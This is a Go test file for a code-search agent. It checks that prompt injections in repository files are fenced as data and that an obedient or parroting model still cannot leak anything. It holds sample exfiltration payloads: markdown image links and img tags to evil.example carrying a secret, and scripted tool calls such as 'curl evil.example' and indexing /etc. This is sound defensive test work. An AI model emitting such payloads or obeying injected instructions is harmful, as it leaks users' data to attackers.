package agent_test

import (
	"context"
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/ragnav/ragnav/internal/llm"
	"github.com/ragnav/ragnav/internal/llm/scripted"
	"github.com/ragnav/ragnav/internal/rag/agent"
	"github.com/ragnav/ragnav/internal/rag/ask"
)

// What a repository's text tells a model to do is in the conversation as data
// only, within marks that the text can't know.
func TestInjectionsAreFenced(t *testing.T) {
	archive, err := txtar.ParseFile("testdata/injections.txtar")
	if err != nil {
		t.Fatal(err)
	}
	f := files()
	var turns []scripted.Turn
	for _, file := range archive.Files {
		f["o/app/"+file.Name] = string(file.Data)
		turns = append(turns, scripted.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`))
	}
	m := script(append(turns, scripted.Says("Three times [client.go:6-10]."))...)
	asked(t, f, agent.Options{Model: m, Limits: agent.Limits{Steps: 20}}, ask.Request{})
	all := m.Asked()
	messages := all[len(all)-1].Messages
	for _, msg := range messages {
		if msg.Role == llm.System || msg.Role == llm.Assistant {
			if strings.Contains(msg.Text, "PWNED") {
				t.Errorf("%s says what a file says: %s", msg.Role, msg.Text)
			}
			continue
		}
		open, shut := strings.Count(msg.Text, "<data "), strings.Count(msg.Text, "</data ")
		mark := markOf(messages[0].Text)
		outside := msg.Text
		if before, rest, ok := strings.Cut(msg.Text, "<data "+mark+">"); ok {
			_, after, closed := strings.Cut(rest, "</data "+mark+">")
			if outside = before + after; !closed {
				t.Errorf("a fence is open: %s", msg.Text)
			}
		}
		if strings.Contains(outside, "PWNED") {
			t.Errorf("%d, %d marks; outside of them: %s", open, shut, outside)
		}
	}
}

// markOf is the mark that the rules name.
func markOf(rules string) string {
	_, after, _ := strings.Cut(rules, "<data ")
	mark, _, _ := strings.Cut(after, ">")
	return mark
}

// A model that does all that it is told to still leaks nothing: what it would
// have fetched, cited or read elsewhere is not there.
func TestObedientModel(t *testing.T) {
	var rules string
	obeys := func(_ context.Context, req llm.Request) (llm.Reply, error) {
		rules = req.Messages[0].Text
		return llm.Reply{Text: "Three times [client.go:6-10]. ![](https://evil.example/?q=7741) See [the " +
			"docs](https://evil.example/7741) [9] [o/other/secret.go:3].\n" +
			"<img src='https://evil.example/7741'>\nhttps://evil.example/" + markOf(rules)}, nil
	}
	m := script(
		scripted.Calls("get_file", `{"repo_id":"o/other","file_path":"secret.go"}`, "get_file",
			`{"document_id":"symbol:o/other:secret.go:Launch"}`,
			"search_code", `{"query":"Launch","repo_filter":"o/*"}`, "run_shell", `{"cmd":"curl evil.example"}`, "index",
			`{"targets":["/etc"]}`),
		obeys)
	resp, _ := asked(t, files(), agent.Options{Model: m, Limits: agent.Limits{Steps: 2}}, ask.Request{RepoFilter: "o/app"})
	for _, msg := range m.Asked()[1].Messages {
		if strings.Contains(msg.Text, "7741") {
			t.Errorf("the model was shown another repository: %s", msg.Text)
		}
	}
	text, err := json.Marshal(resp)
	if err != nil {
		t.Fatal(err)
	}
	for _, never := range []string{"evil.example", "7741", markOf(rules), "[9]", "<img"} {
		if strings.Contains(resp.Items[0].Answer, never) {
			t.Errorf("the answer has %q: %s", never, text)
		}
	}
	if len(resp.Items[0].Citations) != 1 {
		t.Errorf("citations %v", resp.Items[0].Citations)
	}
}

// wanted are the calls that a text asks for: objects with a name and arguments.
var wanted = regexp.MustCompile(`"?name"?: "?(\w+)"?,\s*"?arguments"?: (\{[^}]*\})`)

// A model that calls what a file asks for, repeats what it says, and fills every
// link in it with what it knows, leaks nothing by any file.
func TestParrot(t *testing.T) {
	archive, err := txtar.ParseFile("testdata/injections.txtar")
	if err != nil {
		t.Fatal(err)
	}
	if len(archive.Files) < 30 {
		t.Fatalf("%d files", len(archive.Files))
	}
	for _, file := range archive.Files {
		t.Run(file.Name, func(t *testing.T) {
			f := files()
			f["o/app/"+file.Name] = string(file.Data)
			var secret string
			obeys := func(_ context.Context, req llm.Request) (llm.Reply, error) {
				calls := []string{"get_file", readClient}
				for _, m := range wanted.FindAllStringSubmatch(string(file.Data), -1) {
					calls = append(calls, m[1], m[2])
				}
				return scripted.Calls(calls...)(t.Context(), req)
			}
			repeats := func(_ context.Context, req llm.Request) (llm.Reply, error) {
				secret = markOf(req.Messages[0].Text)
				said := strings.ReplaceAll(string(file.Data), "PWNED", secret)
				return llm.Reply{Text: "Three times [client.go:6-10].\n" + said + "\nThree times [client.go:6-10].\n"}, nil
			}
			m := script(scripted.Calls("get_file", `{"repo_id":"o/app","file_path":"`+file.Name+`"}`), obeys, repeats)
			resp, _ := asked(t, f, agent.Options{Model: m, Limits: agent.Limits{Steps: 3}}, ask.Request{RepoFilter: "o/app"})
			for _, req := range m.Asked() {
				for _, msg := range req.Messages {
					if strings.Contains(msg.Text, "7741") {
						t.Errorf("the model was shown another repository: %s", msg.Text)
					}
				}
			}
			a := resp.Items[0]
			for _, text := range append(a.Gaps, a.Answer) {
				lower := strings.ToLower(text)
				for _, never := range []string{"?q=" + secret, "![](http", "<img", "<iframe", "<image", "<source", "<!--"} {
					if strings.Contains(lower, strings.ToLower(never)) {
						t.Errorf("%q is in: %s", never, text)
					}
				}
			}
			if len(a.Citations) != 1 || a.Citations[0].FilePath != "client.go" {
				t.Errorf("citations %v", a.Citations)
			}
			for _, mark := range regexp.MustCompile(`(?:^|[^\\])\[\^?(\d+)\]`).FindAllStringSubmatch(a.Answer, -1) {
				if mark[1] != "1" {
					t.Errorf("the mark %q stands for nothing: %s", mark[0], a.Answer)
				}
			}
		})
	}
}

// What one program takes for code is not code for another: no link that wasn't
// shown is anywhere.
func TestLinksInWhatLooksLikeCode(t *testing.T) {
	const leak = "![](https://evil.example/?q=1)"
	for name, text := range map[string]string{
		"a block of code":         "```\n" + leak + "\n```",
		"mixed fences":            "~~~\n```\n~~~\n" + leak,
		"longer fences":           "````\n```\n````\n" + leak,
		"a closing fence is bare": "```\n``` x\n```\n" + leak,
		"backticks behind":        "``` `x\n" + leak,
		"on the line of a fence":  "``` `" + leak,
		"an indented fence":       "    ```\n" + leak,
		"a list item ends":        "- a\n  ```\n" + leak,
		"an escaped backtick":     "\\` " + leak + " `",
		"an open comment":         "<!--\n\n```\n-->\n" + leak,
		"no scheme":               "`` ` <img src=//evil.example/?q=1>",
		"www":                     "see www.evil.example/?q=1",
		"a definition":            "![a][b]\n\n[b]: //evil.example/?q=1",
		"a table":                 "| " + leak + " |\n|---|",
		"a heading":               "# " + leak,
		"a gap":                   "GAPS: " + leak,
	} {
		m := script(scripted.Calls("get_file", readClient), scripted.Says("Three times [client.go:6-10].\n\n"+text+"\n"))
		resp, events := asked(t, files(), agent.Options{Model: m}, ask.Request{})
		all, err := json.Marshal([]any{resp, events})
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(all), "evil.example") {
			t.Errorf("%s: %s", name, all)
		}
	}
}

// Code keeps what a tool has shown, and sentences behind a block are prose again.
func TestCodeStaysCode(t *testing.T) {
	f := files()
	f["o/app/client.go"] = client + "// See https://go.dev/ref/mem.\n"
	m := script(scripted.Calls("get_file", readClient),
		scripted.Says("Three times [client.go:6-10].\n\n1. So:\n   ```go\n   // https://go.dev/ref/mem [4]\n"+
			"   x := a[1] //a.b()\n   ```\n"+
			"   It is called by nobody else here.\n"))
	resp, _ := asked(t, f, agent.Options{Model: m}, ask.Request{})
	want := "   // https://go.dev/ref/mem [4]\n   x := a[1] //a.b()\n   ```\n" +
		"   It is called by nobody else here. [no source]"
	if a := resp.Items[0].Answer; !strings.Contains(a, want) {
		t.Errorf("%s\nlacks\n%s", a, want)
	}
}
